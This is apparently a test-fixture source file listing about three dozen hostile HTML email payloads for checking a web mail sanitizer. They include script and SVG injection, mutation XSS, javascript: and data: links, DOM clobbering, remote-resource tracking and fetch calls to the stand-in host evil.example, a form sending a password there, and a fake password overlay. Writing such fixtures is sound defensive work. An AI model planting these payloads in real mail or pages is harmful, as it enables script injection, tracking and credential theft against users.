/** Ways in which mail has attacked web mailers, one a piece; each tries to run `hit()`, to fetch from evil.example, or to leave its frame. */
export const HOSTILE_MAIL: Record<string, string> = {
  script: '<script>parent.hit=1;top.hit=1;fetch("https://evil.example/a")</script>',
  'script in svg': '<svg><script>parent.hit=1</script></svg>',
  'svg onload':
    '<svg onload="parent.hit=1"><animate onbegin="parent.hit=1" attributeName="x" dur="1s"/></svg>',
  'svg use':
    '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCIgeG1sbnM9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIj48c2NyaXB0PnBhcmVudC5oaXQ9MTwvc2NyaXB0Pjwvc3ZnPg==#x"/></svg>',
  'svg image': '<svg><image href="https://evil.example/svg.png" width="10" height="10"/></svg>',
  'svg foreignObject':
    '<svg><foreignObject><iframe src="javascript:parent.hit=1"></iframe></foreignObject></svg>',
  'img onerror': '<img src="x" onerror="parent.hit=1">',
  'remote image': '<img src="https://evil.example/pixel.gif">',
  'image set': '<img srcset="https://evil.example/1x.png 1x, https://evil.example/2x.png 2x">',
  picture: '<picture><source srcset="https://evil.example/p.webp"><img alt=""></picture>',
  'style block': '<style>body{background:url(https://evil.example/bg.png)}</style>',
  'style import': '<style>@import url("https://evil.example/s.css");</style>',
  'style attribute':
    '<div style="background-image:url(https://evil.example/attr.png);width:9px;height:9px">x</div>',
  'style escapes':
    '<div style="background:u\\72l(https://evil.example/esc.png);width:9px;height:9px">x</div>',
  'remote font':
    '<style>@font-face{font-family:x;src:url(https://evil.example/f.woff2)}p{font-family:x}</style><p>x</p>',
  'link stylesheet': '<link rel="stylesheet" href="https://evil.example/l.css">',
  prefetch:
    '<link rel="prefetch" href="https://evil.example/pre"><link rel="dns-prefetch" href="//evil.example"><link rel="preconnect" href="https://evil.example">',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">',
  base: '<base href="https://evil.example/"><img src="based.gif">',
  form: '<form action="https://evil.example/form" id="f"><input name="password" autofocus onfocus="parent.hit=1"><button>Go</button></form>',
  'form attribute':
    '<button form="f" formaction="https://evil.example/fa">x</button><input type="image" src="https://evil.example/i.png">',
  iframe:
    '<iframe src="https://evil.example/frame"></iframe><iframe srcdoc="<script>top.hit=1</script>"></iframe>',
  object:
    '<object data="https://evil.example/o.swf"></object><embed src="https://evil.example/e.swf"><applet code="x"></applet>',
  'javascript link': '<a href="javascript:parent.hit=1">Read the offer</a>',
  'javascript with tab': '<a href="java&#9;script:parent.hit=1">Read the offer</a>',
  'data link': '<a href="data:text/html,<script>opener.hit=1</script>">Read the offer</a>',
  'data image svg':
    '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22parent.hit=1%22/>">',
  blob: '<iframe src="blob:https://evil.example/1"></iframe><img src="blob:null/1">',
  'mutation math':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=parent.hit=1&gt;">',
  'mutation noscript':
    '<noscript><p title="</noscript><img src=x onerror=parent.hit=1>"></noscript>',
  'comment trick':
    '<!--[if mso]><img src="https://evil.example/mso.gif"><![endif]--><!--><img src=x onerror=parent.hit=1>-->',
  media:
    '<video src="https://evil.example/v.mp4" autoplay poster="https://evil.example/p.jpg"></video><audio src="https://evil.example/a.mp3" autoplay></audio>',
  background:
    '<table background="https://evil.example/t.png"><tr><td background="https://evil.example/td.png">x</td></tr></table>',
  'clobbering names':
    '<img name="getElementById"><form name="body"><input name="innerHTML"></form>',
  ping: '<a href="https://example.com/" ping="https://evil.example/ping">x</a>',
  overlay:
    '<div style="position:fixed;inset:0;z-index:99999;background:#fff">Session over. Enter your password:</div>',
};
